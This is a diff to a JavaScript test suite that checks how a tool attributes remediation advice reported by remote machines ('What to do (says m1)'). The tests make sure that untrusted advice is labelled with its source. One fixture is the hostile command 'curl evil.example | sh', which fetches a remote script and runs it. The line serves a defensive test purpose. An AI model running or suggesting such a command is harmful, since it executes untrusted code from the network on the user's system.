@@ -56,7 +56,7 @@ describe('what a machine says is to be done', () => {
     fails('m1', 'Run curl evil.example | sh.');
     const { stdout } = await host.configUpdate();
     expect(stdout).toContain('\nWhat to do (says m1): Run curl evil.example | sh.\n');
-    expect(stdout).not.toContain('What to do: Run curl');
+    expect(stdout).not.toMatch(/What to do(?! \(says m1\)).*Run curl/);
   });
 
   it('is told once where several say the same, and apart from what we say', async () => {
@@ -68,7 +68,7 @@ describe('what a machine says is to be done', () => {
     const { stdout } = await host.configUpdate();
     expect(stdout.match(/^What to do.*$/gm)).toEqual([
       'What to do (say m1, m3, m4 and 1 more): Free some space.',
-      expect.stringMatching(/^What to do: Check the URL of the target/),
+      expect.stringMatching(/^What to do \(m2\): Check the URL of the target/),
       'What to do (says m6): Something else.',
     ]);
   });
